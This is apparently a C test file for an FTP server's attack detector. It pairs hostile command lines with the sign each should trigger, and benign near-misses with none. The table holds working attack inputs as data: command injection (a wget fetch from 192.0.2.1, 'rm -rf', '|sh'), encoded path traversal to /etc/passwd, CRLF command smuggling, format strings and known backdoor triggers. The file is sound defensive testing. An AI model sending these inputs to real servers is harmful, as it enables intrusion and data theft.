/* Tests of attack and attack_path: which sign a command shows, and what is near to one and shows
 * none.
 *
 * SPDX-License-Identifier: GPL-2.0-or-later
 */
#include "flush.h"

#include "wire/attack.h"
#include "wire/command.h"

#define NONE "none"

static const struct attack_case {
    const char *title;
    const char *line;
    const char *sign;
} cases[] = {
    {"SITE EXEC", "SITE EXEC /bin/id", "site-exec"},
    {"SITE EXEC behind two blanks", "SITE  EXEC id", "site-exec"},
    {"SITE EXEC's format string is SITE EXEC", "site exec %p%p", "site-exec"},
    {"help about SITE EXEC", "SITE HELP EXEC", NONE},
    {"EXEC without SITE", "EXEC /bin/id", NONE},

    {"SITE CPFR", "SITE CPFR /etc/passwd", "site-copy"},
    {"SITE CPTO", "SITE CPTO /tmp/passwd", "site-copy"},
    {"another SITE command with such a name", "SITE CHMOD 600 CPTO", NONE},
    {"a file named so", "RETR CPFR", NONE},

    {"vsftpd's smiley", "USER x:)", "back-door"},
    {"a smiley elsewhere", "STOR x:).txt", NONE},
    {"half a smiley", "USER x:", NONE},
    {"another face", "USER x:-)", NONE},
    {"ProFTPD's word", "HELP ACIDBITCHEZ", "back-door"},
    {"ProFTPD's word in lower case", "HELP acidbitchez", NONE},
    {"more than ProFTPD's word", "HELP ACIDBITCHEZ2", NONE},
    {"ProFTPD's word as a name", "RETR ACIDBITCHEZ", NONE},
    {"help", "HELP", NONE},
    {"a rootkit's password", "PASS wh00t", "back-door"},
    {"a worse password", "PASS wh00ter", NONE},
    {"a worm's account", "USER w0rm", "back-door"},
    {"another account", "USER worm", NONE},

    {"a request of HTTP", "GET / HTTP/1.1", "cross-protocol"},
    {"a request of HTTP that posts", "POST /cgi-bin/x HTTP/1.0", "cross-protocol"},
    {"a request of RTSP", "OPTIONS rtsp://a/ RTSP/1.0", "cross-protocol"},
    {"a request of SIP", "OPTIONS sip:nm SIP/2.0", "cross-protocol"},
    {"a header of HTTP", "Host: ftp.example.com", "cross-protocol"},
    {"a virtual host of FTP", "HOST ftp.example.com", NONE},
    {"a word like a header", "Hosts: a", NONE},
    {"a file named like a version", "RETR notes on HTTP/1.1", NONE},
    {"a request without a version", "GET /", NONE},
    {"a version that goes on", "GET / HTTP/1.12", NONE},

    {"a command behind a coded line break", "CWD a%0d%0aDELE%20b", "coded-line-break"},
    {"a command behind a coded line feed", "USER a%0APORT 1,2,3,4,5,6", "coded-line-break"},
    {"a command behind several breaks", "RETR x%0D%0a%0dquit", "coded-line-break"},
    {"a second break that counts", "RETR x%0ay%0aQUIT", "coded-line-break"},
    {"a coded line break at the end", "CWD a%0d%0a", NONE},
    {"a coded line break before a word", "CWD a%0d%0aNotes", NONE},
    {"a coded line break before a longer word", "CWD a%0d%0aQUITTING", NONE},
    {"a command behind another coding", "CWD a%0BQUIT", NONE},

    {"a file that is a pipe", "RETR |touch x", "command-injection"},
    {"an upload into a pipe", "STOR |sh", "command-injection"},
    {"an endpoint between bars", "EPRT |1|192.0.2.1|40000|", NONE},
    {"a bar in a name", "RETR a|b.txt", NONE},
    {"a bar alone", "RETR |", NONE},
    {"a directory that begins with a bar", "CWD |x", NONE},
    {"a program behind a semicolon", "CWD x;id", "command-injection"},
    {"a shell behind a bar", "MKD x|sh -c y", "command-injection"},
    {"a program in back quotes", "RETR `id`", "command-injection"},
    {"a program in a substitution", "RETR $(reboot).txt", "command-injection"},
    {"a program behind and-and", "DELE x&&rm -rf y", "command-injection"},
    {"a program by its path", "LIST ;/bin/ls", "command-injection"},
    {"a user name that runs a program", "USER x;wget http://192.0.2.1/a", "command-injection"},
    {"tar's option", "RETR --use-compress-program=sh x.tar", "command-injection"},
    {"a password of any bytes", "PASS a;id", NONE},
    {"a version of VMS", "RETR LOGIN.COM;1", NONE},
    {"a directory of VMS", "CWD [-.IDS];id2", NONE},
    {"a semicolon in a name", "RETR salt; cat food.txt", NONE},
    {"a name that begins like a program", "RETR dog;catalogue.txt", NONE},
    {"a name with a program's suffix", "RETR tom;cat.jpg", NONE},
    {"facts", "MFF Modify=20220102030405;UNIX.mode=0600; plan.txt", NONE},
    {"a variable that was not replaced", "STOR $(OutDir)/x.dll", NONE},
    {"quotes in a name", "RETR the `best` of", NONE},
    {"and in a name", "RETR R&&B.mp3", NONE},

    {"a format string", "MKD %x%x", "format-string"},
    {"one that writes", "USER %n", "format-string"},
    {"a percentage", "RETR 50%s.txt", NONE},

    {"over the root", "RETR /../etc/passwd", "path-traversal"},
    {"to the root's parent", "CWD /../", NONE},
    {"to the root's parent, behind an option", "LIST -a /..", NONE},
    {"twice over the root", "CWD /../..", "path-traversal"},
    {"over the root to a directory", "CWD /../etc", "path-traversal"},
    {"over the root of a drive", "RETR C:\\..\\..\\boot.ini", "path-traversal"},
    {"within a drive", "RETR C:\\temp\\..\\boot.ini", NONE},
    {"up from a drive's own directory", "CWD C:..", NONE},
    {"a long climb", "CWD ../../../..", "path-traversal"},
    {"a short climb", "CWD ../../..", NONE},
    {"a coded climb", "RETR %2e%2e%2fetc%2fpasswd", "path-traversal"},
    {"a half coded climb", "RETR ..%2fpasswd", "path-traversal"},
    {"a half coded climb with a backslash", "RETR ..%5Cboot.ini", "path-traversal"},
    {"a doubly coded climb", "RETR %252e%252e/passwd", "path-traversal"},
    {"a climb coded as overlong UTF-8", "RETR ..%c0%afpasswd", "path-traversal"},
    {"a climb of overlong dots", "RETR %c0%ae%c0%ae/x", "path-traversal"},
    {"a climb that is not coded, beside a coding", "CWD ../a%2fb", NONE},
    {"a coded climb that goes down before", "RETR a/%2e%2e/b", NONE},
    {"coded names", "RETR a%20b%2d%2e%2Fc", NONE},
    {"coded dots in a name", "RETR a%2e%2eb", NONE},
    {"a percent sign that is coded", "RETR 100%25", NONE},
    {"climbs within climbs", "RETR ....//etc/passwd", "path-traversal"},
    {"climbs within climbs with backslashes", "RETR ....\\/boot.ini", "path-traversal"},
    {"names of three dots", "CWD .../.../x", "path-traversal"},
    {"one name of three dots", "CWD /a/.../b", NONE},
    {"one name of four dots", "CWD ..../b", NONE},
    {"an ellipsis", "RETR and so on...", NONE},
    {"doubled separators", "RETR //a//b", NONE},

    {"a path on another machine", "RETR \\\\192.0.2.9\\share\\x", "remote-path"},
    {"a machine without a share", "CWD \\\\host", NONE},
    {"two backslashes alone", "CWD \\\\", NONE},
    {"three backslashes", "CWD \\\\\\a", NONE},
    {"doubled backslashes within", "CWD a\\\\b\\c", NONE},
    {"slashes instead", "CWD //host/share", NONE},

    {"root's home", "CWD ~root", "root-home"},
    {"in root's home", "LIST ~root/.ssh", "root-home"},
    {"the home of a user with such a name", "CWD ~rooter", NONE},
    {"one's own home", "CWD ~", NONE},
    {"a user's home", "CWD ~alice", NONE},
    {"a name that holds it", "RETR a~root", NONE},
    {"a password", "PASS ~root", NONE},

    {"an open brace behind a tilde", "CWD ~{", "wildcards"},
    {"up and down again", "LIST */../*/../*", "wildcards"},
    {"many braces", "STAT {a,{b,{c,{d,{e,{f,{g,{h", "wildcards"},
    {"an asterisk", "LIST *.txt", NONE},
    {"an asterisk one up", "LIST a/../*", NONE},
    {"a choice", "LIST {a,b}*.txt", NONE},
    {"an identifier in braces", "RETR {01234567-89ab-cdef-0123-456789abcdef}", NONE},
};

static enum ftpx_attack sign_of(const char *line)
{
    struct ftpx_command command = ftpx_command_parse(flush_text(line));

    g_assert_cmpint(command.attack, ==, ftpx_attack_of(command.verb, command.name, command.arg));
    return command.attack;
}

static const char *name_of(enum ftpx_attack sign)
{
    return sign == FTPX_ATTACK_NONE ? NONE : ftpx_attack_name(sign);
}

static void parse_cut(ftpx_span cut)
{
    g_assert_cmpint(ftpx_command_parse(cut).attack, <, FTPX_ATTACK_COUNT);
}

static void shows_its_sign(gconstpointer given)
{
    const struct attack_case *expected = given;

    g_assert_cmpstr(name_of(sign_of(expected->line)), ==, expected->sign);
    flush_every_cut(ftpx_span_of(expected->line), parse_cut);
}

static void no_argument_shows_nothing(void)
{
    g_assert_cmpint(ftpx_attack_of(ftpx_verb(FTPX_CMD_RETR), ftpx_span_of("RETR"), FTPX_SPAN_NONE),
                    ==, FTPX_ATTACK_NONE);
}

static enum ftpx_attack sign_of_length(const char *begin, size_t length)
{
    g_autofree char *rest = g_strnfill(length, 'A');
    g_autofree char *line = g_strconcat(begin, rest, NULL);

    return sign_of(line);
}

static void an_argument_over_512_bytes_is_too_long(void)
{
    g_assert_cmpint(sign_of_length("RETR ", 512), ==, FTPX_ATTACK_NONE);
    g_assert_cmpint(sign_of_length("RETR ", 513), ==, FTPX_ATTACK_OVERLONG);
    g_assert_cmpint(sign_of_length("SITE EXEC ", 600), ==, FTPX_ATTACK_OVERLONG);
    g_assert_cmpint(sign_of_length("ADAT ", 4000), ==, FTPX_ATTACK_NONE);
}

/* Three bytes a letter. */
static void a_long_name_in_chinese_is_a_name(void)
{
    GString *line = g_string_new("RETR ");

    for (unsigned i = 0; i < 255; i++)
        g_string_append(line, "\xe6\x96\x87");
    g_assert_cmpint(sign_of(line->str), ==, FTPX_ATTACK_NONE);
    for (unsigned i = 0; i < 255; i++)
        g_string_append(line, "\xe6\x96\x87");
    g_string_append(line, "\xe6\x96\x87\xe6\x96\x87\xe6\x96\x87");
    g_assert_cmpint(sign_of(line->str), ==, FTPX_ATTACK_OVERLONG);
    g_string_free(line, TRUE);
}

static void every_sign_has_a_name_and_words_of_its_own(void)
{
    g_assert_null(ftpx_attack_name(FTPX_ATTACK_NONE));
    g_assert_null(ftpx_attack_words(FTPX_ATTACK_NONE));
    for (unsigned one = 1; one < FTPX_ATTACK_COUNT; one++) {
        g_assert_cmpuint(strlen(ftpx_attack_words(one)), >, 0);
        for (unsigned other = 1; other < one; other++)
            g_assert_cmpstr(ftpx_attack_name(one), !=, ftpx_attack_name(other));
    }
}

int main(int argc, char **argv)
{
    g_test_init(&argc, &argv, NULL);
    g_test_add_func("/attack/no argument", no_argument_shows_nothing);
    for (size_t i = 0; i < G_N_ELEMENTS(cases); i++) {
        g_autofree char *path = g_strconcat("/attack/", cases[i].title, NULL);

        g_test_add_data_func(path, &cases[i], shows_its_sign);
    }
    g_test_add_func("/attack/a long name in Chinese is a name", a_long_name_in_chinese_is_a_name);
    g_test_add_func("/attack/an argument over 512 bytes is too long",
                    an_argument_over_512_bytes_is_too_long);
    g_test_add_func("/attack/every sign has a name and words of its own",
                    every_sign_has_a_name_and_words_of_its_own);
    return g_test_run();
}
